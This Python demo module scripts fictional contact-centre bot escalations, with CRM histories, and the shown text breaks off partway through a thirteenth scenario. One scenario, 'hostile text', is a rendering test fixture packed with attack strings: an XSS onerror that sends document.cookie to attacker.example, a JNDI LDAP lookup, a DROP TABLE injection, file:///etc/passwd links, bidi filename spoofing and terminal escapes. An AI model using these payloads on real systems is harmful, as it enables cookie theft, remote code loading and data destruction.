"""Scripted escalations for the demo: what a contact centre's bots hand over in a day.

Every scenario is fictional (example.com addresses, 555 numbers). A scenario builds a
fresh `core.Escalation` for a moment `now`: its transcript ends just before `now`, so the
queue always looks live. CRM history is dated relative to `REFERENCE`, the moment this
module was imported, so "three days ago" stays three days ago for the whole demo run.
"""

from __future__ import annotations

import random
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from itertools import count

from cxsidebar import core

REFERENCE = datetime.now(UTC).replace(second=0, microsecond=0)
_HANDOFF_LAG = 2.0  # seconds between the last turn and the escalation itself

_K = core.ReasonKind


@dataclass(frozen=True)
class ScriptLine:
    """One turn of a script; `gap` is the seconds since the previous turn."""

    speaker: core.Speaker
    text: str
    intent: str | None = None
    confidence: float | None = None
    sentiment: float | None = None
    gap: float = 20.0


def _c(
    text: str,
    intent: str | None = None,
    conf: float | None = None,
    sent: float | None = None,
    gap: float = 25.0,
) -> ScriptLine:
    return ScriptLine(core.Speaker.CUSTOMER, text, intent, conf, sent, gap)


def _b(text: str, gap: float = 3.0) -> ScriptLine:
    return ScriptLine(core.Speaker.BOT, text, gap=gap)


def _s(text: str, gap: float = 1.0) -> ScriptLine:
    return ScriptLine(core.Speaker.SYSTEM, text, gap=gap)


def _r(kind: core.ReasonKind, detail: str, value: float | str | None = None) -> core.Reason:
    return core.Reason(kind=kind, detail=detail, value=value)


def _ago(days: float, hours: float = 0) -> datetime:
    return REFERENCE - timedelta(days=days, hours=hours)


def _item(
    id: str,
    kind: str,
    title: str,
    status: str,
    opened_days_ago: float,
    closed_days_ago: float | None = None,
    flow: str | None = None,
) -> core.HistoryItem:
    closed = None if closed_days_ago is None else _ago(closed_days_ago)
    return core.HistoryItem(
        id=id,
        kind=kind,
        title=title,
        status=status,
        opened_at=_ago(opened_days_ago),
        closed_at=closed,
        flow=flow,
    )


def _profile(
    id: str,
    name: str,
    tier: str,
    since: str,
    email: str,
    phone: str,
    *,
    vip: bool = False,
    language: str = "en",
    marketing: bool = False,
) -> core.Profile:
    return core.Profile(
        id=id,
        display_name=name,
        tier=tier,
        vip=vip,
        language=language,
        customer_since=since,
        email=email,
        phone=phone,
        consent={"marketing": marketing, "recording": True},
    )


@dataclass(frozen=True)
class Scenario:
    """A scripted escalation plus the CRM record of its customer."""

    key: str
    title: str
    queue: str
    channel: str
    platform: str
    flow: str
    note_to_agent: str
    customer: core.CustomerRef
    reasons: tuple[core.Reason, ...]
    script: tuple[ScriptLine, ...]
    language: str = "en"
    profile: core.Profile | None = None
    history: tuple[core.HistoryItem, ...] = ()

    def escalation(self, now: datetime, seq: int) -> core.Escalation:
        """Build escalation `esc-<key>-<seq>` created at `now`.

        The same inputs give the same body, so a re-post is recognised as a duplicate.
        """
        if now.tzinfo is None:
            raise ValueError("now must be timezone-aware")
        total = sum(line.gap for line in self.script)
        start = now - timedelta(seconds=total + _HANDOFF_LAG)
        elapsed = 0.0
        turns: list[core.Turn] = []
        for n, line in enumerate(self.script, 1):
            elapsed += line.gap
            turns.append(
                core.Turn(
                    id=f"t{n:05d}",
                    at=start + timedelta(seconds=elapsed),
                    speaker=line.speaker,
                    text=line.text,
                    intent=line.intent,
                    confidence=line.confidence,
                    sentiment=line.sentiment,
                )
            )
        return core.Escalation(
            id=f"esc-{self.key}-{seq}",
            queue=self.queue,
            channel=self.channel,
            created_at=now,
            language=self.language,
            bot=core.BotInfo(
                platform=self.platform, flow=self.flow, note_to_agent=self.note_to_agent
            ),
            customer=self.customer,
            reasons=list(self.reasons),
            transcript=turns,
        )


def _person(profile: core.Profile) -> core.CustomerRef:
    return core.CustomerRef(id=profile.id, display_name=profile.display_name)


# 1 ─ billing dispute that needs a prorated refund ─────────────────────────────────────
_PRIYA = _profile(
    "cus-1001",
    "Priya Raman",
    "silver",
    "2018-09-03",
    "priya.raman@example.com",
    "+1-555-0101",
    marketing=True,
)
BILLING = Scenario(
    key="billing-prorated-refund",
    title="Billing dispute: prorated refund after a downgrade",
    queue="billing",
    channel="chat",
    platform="rasa",
    flow="billing_dispute",
    note_to_agent="Downgraded Family Unlimited ($89.99) to Essentials ($49.99) on day 12 of the "
    "cycle but was billed the full old price. Customer's own estimate: $25.33 credit. "
    "The bot cannot issue partial refunds.",
    customer=_person(_PRIYA),
    reasons=(
        _r(_K.CUSTOMER_REQUEST, "customer asked for a person"),
        _r(_K.OTHER, "prorated refund needs a manual calculation", 25.33),
        _r(_K.MISUNDERSTOOD_INTENTS, "1 turn under 0.4 confidence", 1),
    ),
    script=(
        _s("Chat started from the billing page (plan: Essentials).", gap=0),
        _b("Hi Priya, I'm Nova, the virtual assistant. What can I help you with today?"),
        _c(
            "I was charged $89.99 this month but I switched to the $49.99 plan on the 12th",
            "billing_dispute",
            0.88,
            -0.2,
        ),
        _b(
            "I can see a charge of $89.99 on the invoice dated the 1st. Would you like me to "
            "explain the charges on that invoice?"
        ),
        _c(
            "no I know what the charges are, I want the difference back for the days after I "
            "downgraded",
            "request_refund",
            0.71,
            -0.35,
        ),
        _b(
            "Refunds for part of a billing period are handled by our billing team. Did you want "
            "to dispute the whole charge?"
        ),
        _c(
            "not the whole charge. just the part from the 12th onward. it should be prorated",
            "nlu_fallback",
            0.31,
            -0.4,
        ),
        _b(
            "Sorry, I didn't quite get that. You can say 'dispute a charge', 'explain my bill' "
            "or 'talk to an agent'."
        ),
        _c("prorated refund", "request_refund", 0.52, -0.3, gap=9),
        _b(
            "I'm not able to calculate prorated refunds. Your plan change took effect with 19 of "
            "30 days left in the period."
        ),
        _c(
            "right so that's 19 days x $40 / 30 = about $25.33. can a person just do that",
            "agent_handoff",
            0.93,
            -0.3,
        ),
        _s("Handoff requested: billing_dispute -> billing queue"),
    ),
    profile=_PRIYA,
    history=(
        _item(
            "ORD-40218",
            "order",
            "Plan change: Family Unlimited -> Essentials",
            "completed",
            18,
            18,
            flow="plan_change",
        ),
        _item(
            "T-39920",
            "ticket",
            "Question about roaming charges",
            "resolved",
            64,
            63,
            flow="billing_explain",
        ),
    ),
)

# 2 ─ suspected fraud ───────────────────────────────────────────────────────────────
_MARCUS = _profile(
    "cus-1002", "Marcus Bell", "gold", "2012-02-17", "marcus.bell@example.com", "+1-555-0142"
)
FRAUD = Scenario(
    key="suspected-fraud",
    title="Suspected fraud: unknown card charges, email changed",
    queue="fraud",
    channel="voice",
    platform="lex-v2",
    flow="CardTransactions",
    note_to_agent="Card ending 4417 frozen by the bot. Three card-not-present charges at Voltmart "
    "Online totalling $915.55. The account email changed yesterday: treat as a possible account "
    "takeover and re-verify identity before discussing details.",
    customer=_person(_MARCUS),
    reasons=(
        _r(_K.KEYWORD, "keyword 'fraud' in caller utterance", "fraud"),
        _r(
            _K.SENSITIVE_TOPIC,
            "possible account takeover: contact email changed 1 day ago",
            "account_takeover",
        ),
        _r(_K.PAYMENT_THRESHOLD, "disputed total $915.55 > $500 limit", 915.55),
    ),
    script=(
        _s(
            "Inbound call from +1-555-0142 (number on file). Caller verified with date of birth "
            "and last 4 digits.",
            gap=0,
        ),
        _b("Thanks, Marcus. How can I help with your card today?"),
        _c(
            "there's three charges on my card I didn't make from some electronics store online",
            "DisputeTransaction",
            0.84,
            -0.5,
            gap=8,
        ),
        _b(
            "I see three recent online transactions at Voltmart Online: $312.40, $298.15 and "
            "$305.00. Are these the ones?"
        ),
        _c(
            "yes those I've never shopped there I think this is fraud",
            "ReportFraud",
            0.95,
            -0.6,
            gap=6,
        ),
        _b(
            "I'm sorry to hear that. For your protection I can freeze the card now. Would you "
            "like me to do that?"
        ),
        _c(
            "yes freeze it and someone changed my email address yesterday too I got a notice",
            "FallbackIntent",
            0.38,
            -0.7,
            gap=7,
        ),
        _b("Your card ending in 4417 is now frozen. New transactions will be declined."),
        _s("Action freeze_card completed for card ending 4417."),
        _b(
            "Because you mentioned a change to your account details, I'm transferring you to our "
            "fraud team. Please stay on the line."
        ),
    ),
    profile=_MARCUS,
    history=(
        _item(
            "CASE-88410",
            "case",
            "Contact email changed online",
            "closed",
            1,
            1,
            flow="profile_update",
        ),
        _item(
            "T-71102",
            "ticket",
            "Travel notice: Portugal, 10 days",
            "closed",
            41,
            41,
            flow="travel_notice",
        ),
    ),
)

# 3 ─ a password reset that failed twice ────────────────────────────────────────────
_HANNAH = _profile(
    "cus-1003",
    "Hannah Okafor",
    "standard",
    "2021-06-30",
    "hannah.okafor@example.com",
    "+1-555-0187",
)
PASSWORD = Scenario(
    key="password-reset-failed",
    title="Password reset failed twice, account locked",
    queue="support",
    channel="chat",
    platform="botpress",
    flow="password_reset",
    note_to_agent="Both reset links expired immediately (token_expired), then the SMS code was "
    "rejected. Looks like last month's reset-token issue. Verify identity manually and issue a "
    "temporary password.",
    customer=_person(_HANNAH),
    reasons=(
        _r(_K.BOT_FAILURE, "password reset failed twice (token_expired); SMS code rejected", 2),
        _r(_K.MISUNDERSTOOD_INTENTS, "1 turn under 0.4 confidence", 1),
    ),
    script=(
        _s("Chat started from the sign-in page.", gap=0),
        _b("Hi! I'm the help assistant. What do you need help with?"),
        _c("I can't log in, forgot my password", "password_reset", 0.97, -0.1),
        _b("No problem. I've sent a reset link to h•••••@example.com. It's valid for 15 minutes."),
        _c("ok clicked it, it says the link has expired??", "reset_link_expired", 0.82, -0.3, 70),
        _s("Password reset attempt 1 failed: token_expired"),
        _b("Sorry about that. I've sent a new link. Please use the most recent email."),
        _c("clicked the new one straight away, same error", "reset_link_expired", 0.79, -0.45, 55),
        _s("Password reset attempt 2 failed: token_expired"),
        _b("Let's try a code instead. I've sent a 6-digit code by SMS to the number ending 0187."),
        _c("418203", "provide_code", 0.9, None, 40),
        _b("I couldn't verify that code. For security I can't make more attempts right now."),
        _c(
            "great. so I'm locked out. I need this sorted today I have bills to pay",
            "none",
            0.22,
            -0.65,
        ),
        _s("Account temporarily locked after 2 failed resets; escalating."),
    ),
    profile=_HANNAH,
    history=(
        _item(
            "T-52291",
            "ticket",
            "Reset link expires immediately",
            "resolved",
            35,
            34,
            flow="password_reset",
        ),
    ),
)

# 4 ─ a lost parcel ───────────────────────────────────────────────────────────────
_DANIEL = _profile(
    "cus-1004",
    "Daniel Whitfield",
    "standard",
    "2022-11-05",
    "d.whitfield@example.com",
    "+1-555-0163",
    marketing=True,
)
PARCEL = Scenario(
    key="lost-parcel",
    title="Lost parcel: marked delivered, never arrived",
    queue="logistics",
    channel="chat",
    platform="dialogflow-cx",
    flow="order.tracking",
    note_to_agent="Carrier GPS puts the 'delivered' scan 410 m from the address. Order value "
    "$159.00. First delivered-not-received claim on this account.",
    customer=_person(_DANIEL),
    reasons=(
        _r(_K.OTHER, "delivered-not-received claim needs a carrier investigation", "ORD-77310"),
        _r(_K.MISUNDERSTOOD_INTENTS, "1 turn under 0.4 confidence", 1),
    ),
    script=(
        _s("Chat started from the page of order ORD-77310.", gap=0),
        _b("Hi Daniel, I can help with order ORD-77310. What would you like to know?"),
        _c(
            "where is it? tracking says delivered on tuesday but nothing came",
            "order.where_is_my_order",
            0.9,
            -0.4,
        ),
        _b(
            "The carrier marked it delivered on Tuesday at 14:32, left at the front door. Have you "
            "checked with neighbours or around your building?"
        ),
        _c(
            "yes I checked everywhere, asked the neighbours, nothing. and I was home all day",
            "sys.no-match-default",
            0.34,
            -0.5,
        ),
        _b(
            "Parcels are sometimes marked delivered a little early. Please wait 24 hours before "
            "reporting it missing."
        ),
        _c(
            "it's been 3 days. it was a $159 coffee grinder, I want a replacement or a refund",
            "order.request_refund",
            0.81,
            -0.55,
        ),
        _s("Carrier scan DELIVERED recorded 410 m from the delivery address."),
        _b(
            "I understand. A missing-parcel claim has to be opened by our logistics team. I'll "
            "connect you now."
        ),
    ),
    profile=_DANIEL,
    history=(
        _item("ORD-77310", "order", "Burr coffee grinder, $159.00", "delivered", 6, 3),
        _item("ORD-70145", "order", "Descaling tablets x3", "delivered", 49, 46),
    ),
)

# 5 ─ a healthcare claim (sensitive) ─────────────────────────────────────────────────
_GRACE = _profile(
    "cus-1005", "Grace Liu", "gold", "2016-01-11", "grace.liu@example.com", "+1-555-0175"
)
HEALTH = Scenario(
    key="healthcare-claim",
    title="Health claim denied: member disclosed a diagnosis",
    queue="claims",
    channel="chat",
    platform="copilot-studio",
    flow="Claim status",
    note_to_agent="Claim CLM-2291-0457 denied with CO-197 (no precertification). Member says the "
    "provider obtained it: check for a date mismatch between authorization and service. Apply "
    "minimum-necessary rules to health information.",
    customer=_person(_GRACE),
    reasons=(
        _r(_K.SENSITIVE_TOPIC, "health information (diagnosis) disclosed by the member", "phi"),
        _r(_K.CUSTOMER_REQUEST, "member asked for a claims specialist"),
    ),
    script=(
        _s("Authenticated member chat (plan: Silver PPO).", gap=0),
        _b("Hello Grace, I'm the Member Services assistant. What can I do for you?"),
        _c("my claim for my MRI got denied and I don't understand why", "Claim status", 0.86, -0.3),
        _b(
            "I found claim CLM-2291-0457 for an MRI on the 3rd. It was denied with code CO-197: "
            "precertification not obtained."
        ),
        _c(
            "my doctor said she did get the pre-authorization. this is for my MS follow-up, I "
            "can't pay $2,400 out of pocket",
            "Fallback",
            0.36,
            -0.55,
            50,
        ),
        _b(
            "I can't discuss medical details in this chat. Would you like to submit an appeal or "
            "talk to a claims specialist?"
        ),
        _c(
            "specialist please. can they check if the authorization was filed under the wrong date",
            "Talk to agent",
            0.92,
            -0.35,
        ),
        _s("Conversation contains health information; transcript retention is restricted."),
    ),
    profile=_GRACE,
    history=(
        _item("PA-55012", "case", "Prior authorization: outpatient imaging", "approved", 22, 20),
        _item(
            "CLM-2291-0457",
            "claim",
            "Imaging claim, billed $2,400.00",
            "denied",
            9,
            4,
            flow="Claim status",
        ),
    ),
)

# 6 ─ a payment over $500 ─────────────────────────────────────────────────────────────
_OLIVIA = _profile(
    "cus-1006",
    "Olivia Brennan",
    "gold",
    "2009-05-22",
    "olivia.brennan@example.com",
    "+1-555-0118",
    vip=True,
)
PAYMENT = Scenario(
    key="payment-over-limit",
    title="Phone payment of $740 over the $500 bot limit",
    queue="billing",
    channel="voice",
    platform="lex-v2",
    flow="MakePayment",
    note_to_agent="VIP. Caller confirmed a $740.00 payment from checking ending 2290; only the "
    "amount limit stopped the bot. Balance $1,482.60.",
    customer=_person(_OLIVIA),
    reasons=(_r(_K.PAYMENT_THRESHOLD, "payment $740 > $500 limit", 740.0),),
    script=(
        _s("Inbound call, caller ID matched. Authenticated by voice PIN.", gap=0),
        _b("Welcome back, Olivia. Would you like to hear your balance or make a payment?"),
        _c("make a payment", "MakePayment", 0.96, 0.1, 5),
        _b("Your current balance is $1,482.60. How much would you like to pay?"),
        _c("seven hundred and forty dollars", "MakePayment", 0.88, 0.0, 6),
        _b(
            "To confirm: a payment of $740.00 from the checking account ending 2290. Is that right?"
        ),
        _c("yes that's right", "Confirm", 0.94, 0.1, 4),
        _s("Automated payment limit reached: requested $740.00, limit $500.00."),
        _b(
            "Payments above $500 by phone are completed with a specialist. Please hold while I "
            "transfer you."
        ),
    ),
    profile=_OLIVIA,
    history=(
        _item("PAY-30981", "payment", "Payment $450.00 by phone", "settled", 31, 30),
        _item("T-30102", "ticket", "Paper statements switched off", "closed", 120, 120),
    ),
)

# 7 ─ an angry customer ───────────────────────────────────────────────────────────────
_VICTOR = _profile(
    "cus-1007", "Victor Haines", "silver", "2017-03-14", "victor.haines@example.com", "+1-555-0129"
)
ANGRY = Scenario(
    key="angry-customer",
    title="Angry customer: second missed technician visit",
    queue="support",
    channel="chat",
    platform="chatwoot",
    flow="repair_booking",
    note_to_agent="Second missed technician visit this week; the customer took the day off work. "
    "Wants a formal complaint logged, not a new slot. Do not open with a rebooking offer.",
    customer=_person(_VICTOR),
    reasons=(
        _r(_K.KEYWORD, "keywords 'complaint', 'frustrated'", "complaint"),
        _r(_K.NEGATIVE_SENTIMENT, "mean sentiment -0.85 over the last 3 customer turns", -0.85),
    ),
    script=(
        _s("Chat started from the repair status page.", gap=0),
        _b("Hi Victor! How can I help today?"),
        _c(
            "the technician didn't show up AGAIN. second time this week. I took the day off work "
            "for this",
            "repair_status",
            0.74,
            -0.78,
        ),
        _b(
            "I'm sorry to hear that. Your visit was booked for today between 8:00 and 12:00. "
            "Would you like to book a new slot?"
        ),
        _c(
            "no I do not want another slot, I want someone to explain why nobody turned up",
            "none",
            0.29,
            -0.85,
        ),
        _b("I can offer Thursday 13:00-17:00 or Friday 8:00-12:00."),
        _c(
            "are you even reading what I write? I'm extremely frustrated. I want to make a formal "
            "complaint",
            "complaint",
            0.9,
            -0.93,
        ),
        _b(
            "I've noted that you want to make a complaint. I'm connecting you with a member of "
            "our team."
        ),
    ),
    profile=_VICTOR,
    history=(
        _item("APT-61230", "appointment", "Technician visit 08:00-12:00", "missed", 4, 3),
        _item("APT-61577", "appointment", "Technician visit 08:00-12:00", "missed", 1, 0),
    ),
)

# 8 ─ a repeat contact about the same issue ─────────────────────────────────────────────
_AISHA = _profile(
    "cus-1008", "Aisha Karimi", "standard", "2020-08-19", "aisha.karimi@example.com", "+1-555-0193"
)
REPEAT = Scenario(
    key="repeat-contact",
    title="Repeat contact: connection drops again, 3 days later",
    queue="support",
    channel="chat",
    platform="dialogflow-cx",
    flow="internet.troubleshooting",
    note_to_agent="Second contact in 3 days on the same fault. The router restart only helped "
    "for a day; the line test shows a low SNR margin (3.1 dB) and 14 drops in 24 h. Book an "
    "engineer instead of repeating the restart.",
    customer=_person(_AISHA),
    reasons=(
        _r(_K.OTHER, "repeat contact: same flow 3 days ago (ticket T-58102)", 2),
        _r(_K.MISUNDERSTOOD_INTENTS, "1 turn under 0.4 confidence", 1),
    ),
    script=(
        _s("Chat started from the app (Fibre 500).", gap=0),
        _b("Hi Aisha, welcome back. What can I help with?"),
        _c(
            "my internet is dropping out again, same as before. I already did all the restarts "
            "with you",
            "internet.connection_drops",
            0.89,
            -0.5,
        ),
        _b("Let's run a line test. This takes about a minute."),
        _s("Line test: sync OK, 14 drops in the last 24 h, SNR margin 3.1 dB (low).", gap=65),
        _b(
            "Your line is connected but has dropped 14 times in the last day. Try restarting the "
            "router by holding the power button for 10 seconds."
        ),
        _c(
            "I did that when I talked to you three days ago. it fixed it for about a day. I don't "
            "want to do it again",
            "sys.no-match-default",
            0.33,
            -0.6,
        ),
        _b(
            "I understand. Since this is your second contact about this, I'll pass you to an "
            "agent who can arrange an engineer."
        ),
    ),
    profile=_AISHA,
    history=(
        _item(
            "T-58102",
            "ticket",
            "Connection drops: router restart advised",
            "resolved by bot",
            3,
            2.97,
            flow="internet.troubleshooting",
        ),
        _item("ORD-50211", "order", "Fibre 500 installation", "completed", 70, 66),
    ),
)

# 9 ─ a German-speaking customer ─────────────────────────────────────────────────────
_JONAS = _profile(
    "cus-1009",
    "Jonas Becker",
    "standard",
    "2019-10-01",
    "jonas.becker@example.com",
    "+49-555-0110",
    language="de",
)
GERMAN = Scenario(
    key="german-cancellation",
    title="Sonderkündigung: customer moving abroad (German)",
    queue="billing",
    channel="chat",
    platform="rasa",
    flow="contract_cancellation",
    language="de",
    note_to_agent="Customer writes German. Moving to Portugal next month and asks for early "
    "termination (Sonderkündigung) before the contract ends in August; needs proof of the new "
    "address. Declined a retention offer.",
    customer=_person(_JONAS),
    reasons=(
        _r(_K.CUSTOMER_REQUEST, "customer asked for an agent ('Bitte einen Mitarbeiter')"),
        _r(_K.MISUNDERSTOOD_INTENTS, "1 turn under 0.4 confidence", 1),
        _r(_K.OTHER, "early termination for a move abroad is not automated"),
    ),
    script=(
        _s("Chat started from the cancellation page.", gap=0),
        _b("Hallo Jonas! Ich bin der digitale Assistent. Wie kann ich helfen?"),
        _c(
            "Ich möchte meinen Vertrag kündigen, ich ziehe nächsten Monat ins Ausland.",
            "cancel_contract",
            0.83,
            -0.1,
        ),
        _b(
            "Schade, dass Sie gehen möchten! Darf ich Ihnen stattdessen einen günstigeren Tarif "
            "zeigen?"
        ),
        _c(
            "Nein danke. Mein Vertrag läuft noch bis August. Gibt es ein Sonderkündigungsrecht "
            "bei einem Umzug ins Ausland?",
            "nlu_fallback",
            0.27,
            -0.2,
            40,
        ),
        _b(
            "Entschuldigung, das habe ich nicht verstanden. Möchten Sie Ihren Tarif wechseln oder "
            "Ihre Adresse ändern?"
        ),
        _c(
            "Nein. Umzug nach Portugal. Sonderkündigung. Bitte einen Mitarbeiter.",
            "request_human",
            0.78,
            -0.4,
        ),
        _b("Ich verbinde Sie mit einem Mitarbeiter. Bitte haben Sie einen Moment Geduld."),
    ),
    profile=_JONAS,
    history=(_item("ORD-20931", "order", "Vertragsverlängerung 24 Monate", "active", 580, 580),),
)

# 10 ─ a very long troubleshooting session (2,000+ turns) ───────────────────────────────
_LONG_STEPS = (
    "unplug the box from the power socket, wait 30 seconds and plug it back in",
    "check that the HDMI cable is pushed in firmly at both ends",
    "hold the reset button on the back for 5 seconds until the light flashes blue",
    "open Settings > System > Software update and choose 'Check now'",
    "connect the box to the router with the Ethernet cable instead of Wi-Fi",
    "switch the TV input away from HDMI 1 and back again",
    "clear the app cache under Settings > Apps > Storage",
)
_LONG_DONE = (
    "done",
    "ok did that",
    "done. it's booting",
    "ok",
    "did it, lights are green now",
    "yep done that",
    "done again",
)
_LONG_STILL = (
    "it rebooted again after {m} minutes",
    "same thing, black screen then the logo",
    "still restarting. {m} minutes this time",
    "nope. rebooted mid-programme again",
    "it stayed on for {m} minutes then restarted",
)
_LONG_LOST = (
    "which button is the reset one, there are two holes on the back",
    "the menu looks different on mine, there's no System",
    "is it the yellow cable or the grey one",
    "what do you mean by input",
)


def _mood(value: float) -> float:
    return round(max(-1.0, min(1.0, value)), 2) + 0.0  # + 0.0 turns -0.0 into 0.0


def _long_session(seed: int = 20240611, min_turns: int = 2000) -> tuple[ScriptLine, ...]:
    """A messaging thread of a day and more where the bot walks seven steps round and round."""
    rng = random.Random(seed)
    lines = [
        _s("Messaging thread opened from the TV app (set-top box model X200).", gap=0),
        _b("Hi Walter, I'm the TV assistant. What's going on with your box?"),
        _c("my tv box keeps restarting by itself every few minutes", "box_reboot_loop", 0.93, 0.0),
    ]
    cycle = 0
    while len(lines) < min_turns:
        cycle += 1
        mood = -0.75 * len(lines) / min_turns + rng.uniform(-0.12, 0.12)
        step = _LONG_STEPS[(cycle - 1) % len(_LONG_STEPS)]
        lines.append(_b(f"Let's try this (attempt {cycle}): {step}. Tell me when you're done."))
        if rng.random() < 0.15:
            lines.append(
                _c(
                    rng.choice(_LONG_LOST),
                    "none",
                    round(rng.uniform(0.12, 0.38), 2),
                    _mood(mood),
                    rng.uniform(10, 45),
                )
            )
            lines.append(
                _b(
                    "Sorry, I didn't understand that. Please reply 'done' when you have "
                    "finished, or 'help' to see the steps again."
                )
            )
        lines.append(
            _c(
                rng.choice(_LONG_DONE),
                "confirm_done",
                round(rng.uniform(0.8, 0.98), 2),
                _mood(mood),
                rng.uniform(15, 60),
            )
        )
        lines.append(_b("Thanks. Let's give it a few minutes and see whether it stays on."))
        minutes = rng.randint(1, 6)
        wait = minutes * 60.0 + rng.uniform(0, 50)
        if cycle % 3 == 0:
            lines.append(
                _s(
                    f"Device telemetry: X200 rebooted, uptime {minutes} min, "
                    f"error E-{rng.randint(100, 999)}",
                    gap=wait,
                )
            )
            wait = rng.uniform(10, 40)
        lines.append(
            _c(
                rng.choice(_LONG_STILL).format(m=minutes),
                "still_broken",
                round(rng.uniform(0.7, 0.95), 2),
                _mood(mood - 0.1),
                wait,
            )
        )
        if cycle % 60 == 0:
            lines.append(
                _c(
                    "I have to go, I'll message again later",
                    "pause_conversation",
                    0.88,
                    _mood(mood),
                )
            )
            lines.append(_s("Customer inactive; thread kept open.", gap=rng.uniform(1200, 3600)))
            lines.append(_c("back. it's still doing it", "still_broken", 0.86, _mood(mood)))
    lines.append(
        _c(
            "this is going round in circles. let me talk to a human please",
            "agent_handoff",
            0.97,
            -0.8,
        )
    )
    lines.append(_b("I'm sorry I couldn't fix it. I'm passing you to a technician now."))
    return tuple(lines)


_LONG_SCRIPT = _long_session()
_LONG_CYCLES = sum(line.text.startswith("Let's try this") for line in _LONG_SCRIPT)
_LONG_FALLBACKS = sum(line.intent == "none" for line in _LONG_SCRIPT)
_WALTER = _profile(
    "cus-1010",
    "Walter Nguyen",
    "standard",
    "2015-12-02",
    "walter.nguyen@example.com",
    "+1-555-0150",
)
LONG = Scenario(
    key="long-troubleshooting",
    title="Very long session: set-top box reboot loop",
    queue="support",
    channel="chat",
    platform="botpress",
    flow="tv_box_troubleshooting",
    note_to_agent=f"Thread open for more than a day. The bot cycled through the same "
    f"{len(_LONG_STEPS)} steps {_LONG_CYCLES} times; telemetry shows an error code on every "
    "reboot. Hardware fault likely: offer a box swap.",
    customer=_person(_WALTER),
    reasons=(
        _r(
            _K.BOT_FAILURE,
            f"troubleshooting loop repeated {_LONG_CYCLES} times without a fix",
            _LONG_CYCLES,
        ),
        _r(
            _K.MISUNDERSTOOD_INTENTS,
            f"{_LONG_FALLBACKS} turns under 0.4 confidence",
            _LONG_FALLBACKS,
        ),
        _r(_K.CUSTOMER_REQUEST, "customer asked for a human"),
    ),
    script=_LONG_SCRIPT,
    profile=_WALTER,
    history=(_item("ORD-11873", "order", "Set-top box X200 rental", "active", 400, None),),
)

# 11 ─ hostile text: markup, control characters, bidi overrides ───────────────────────
_EVE_NAME = "<b>Eve</b> \u202eyrolaM\u202c 😈"
_EVE = core.Profile(
    id="cus-1011",
    display_name=_EVE_NAME,
    tier="<i>gold</i>",
    language="en",
    customer_since="2023-01-01<script>",
    email="eve+<script>@example.com",
    phone="+1-555-0166\x00",
    consent={"marketing": False, "recording": True},
)
HOSTILE = Scenario(
    key="hostile-text",
    title="Hostile text: HTML, control characters and bidi overrides",
    queue="support",
    channel="chat",
    platform="chatwoot",
    flow="order_lookup",
    note_to_agent='<a href="file:///etc/passwd">Open receipt</a> <script>alert(1)</script> '
    "Customer text is full of markup; everything here must show literally.\x1b[0m",
    customer=core.CustomerRef(id=_EVE.id, display_name=_EVE_NAME),
    reasons=(
        _r(_K.KEYWORD, "markup in customer messages: <script>, <img onerror>", "<script>"),
        _r(_K.MISUNDERSTOOD_INTENTS, "5 turns under 0.4 confidence", 5),
        _r(_K.BOT_FAILURE, "order lookup failed for '\u202e09821-55'", "order_lookup"),
    ),
    script=(
        _s("Chat relayed from the web form (markup not stripped).", gap=0),
        _c(
            "Hi <script>alert('xss')</script> my order page just shows this",
            "order_lookup",
            0.61,
            -0.2,
        ),
        _b("Sorry about that. Could you give me your order number?"),
        _c(
            "Order <img src=x onerror=\"fetch('https://attacker.example/c?'+document.cookie)\"> "
            "55-1290",
            "none",
            0.24,
            -0.2,
        ),
        _b(
            "I couldn't find an order matching '<img src=x onerror=...> 55-1290'. Order numbers "
            "look like 55-12345."
        ),
        _c(
            'See <a href="file:///etc/passwd">my receipt</a> and <a href="javascript:alert(1)">'
            "this</a> <b>NOW</b> &amp; &lt;tag&gt; <font color=red size=7>!!!</font>",
            "none",
            0.19,
            -0.4,
        ),
        _c(
            "order\x00 55\x07-12904 \x1b[31mURGENT\x1b[0m\x7f\x85\r\nsecond line\rthird line\x0b",
            "provide_order_number",
            0.55,
            -0.3,
            12,
        ),
        _c(
            "the attachment is invoice_\u202egpj.exe and \u2066isolated\u2069 \u202bembedded",
            "none",
            0.3,
            -0.3,
        ),
        _c(
            "😡🔥 \U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 🇩🇪 👍🏽 "
            "pay\u200bpal\u200c.com\ufeff \u2060word\u200d",
            "none",
            0.2,
            -0.6,
        ),
        _c(
            "${jndi:ldap://attacker.example/a} {0} %s %n '; DROP TABLE escalations;-- "
            "Z\u0335\u0322a\u0337l\u0338g\u0336o \u05e9\u05dc\u05d5\u05dd hello "
            "\u0645\u0631\u062d\u0628\u0627\n\n\n\nfive lines down",
            "none",
            0.15,
            -0.5,
        ),
        _c("A" * 4000, "none", 0.1, -0.5, 8),
        _b("<b>Bot:</b> I will connect you to a human. <font color=red>Please wait</font>"),
        _s("\x1b]0;pwned\x07 relay note: 3 messages contained HTML"),
    ),
    profile=_EVE,
    history=(
        core.HistoryItem(
            id="T-66601",
            kind="ticket",
            title="Refund <img src=x onerror=alert(1)>",
            status="<b>open</b>",
            opened_at=_ago(12),
            flow="order_lookup\u202e",
        ),
    ),
)

# 12 ─ a visitor with no CRM record ─────────────────────────────────────────────────
NO_CRM = Scenario(
    key="no-crm-record",
    title="Website visitor with no CRM record: business quote",
    queue="sales",
    channel="chat",
    platform="dialogflow-cx",
    flow="sales.business_pricing",
    note_to_agent="Not signed in and no CRM match for the email given (sam.ortiz@example.com). "
    "Prospect wants a 40-seat business plan quote this week.",
    customer=core.CustomerRef(id="guest-5c1e0a", display_name="Website visitor"),
    reasons=(
        _r(_K.CUSTOMER_REQUEST, "visitor asked for someone from sales"),
        _r(_K.OTHER, "no CRM record for this visitor", "guest"),
    ),
    script=(
        _s("Chat started from /business/pricing (not signed in).", gap=0),
        _b("Hi there! Looking for the right plan for your team?"),
        _c("yes, we're about 40 people, do you do volume discounts", "sales.pricing", 0.86, 0.3),
        _b(
            "Our Business plan is $12 per user per month, billed annually. Discounts start at 50 "
            "seats."
        ),
        _c(
            "we'd be at 40 now, 60 by the end of the year. can I get a quote that covers that?",
            "sys.no-match-default",
            0.37,
            0.1,
        ),
        _b("I can connect you with our sales team for a custom quote. What email should they use?"),
        _c("sam.ortiz@example.com", "provide_email", 0.98, None, 15),
        _s("CRM lookup for sam.ortiz@example.com: no match."),
        _b("Thanks! Connecting you with sales now."),
    ),
)

# 13 ─ a voice call with speech-recognition errors ───────────────────────────────────
_RUTH = _profile(
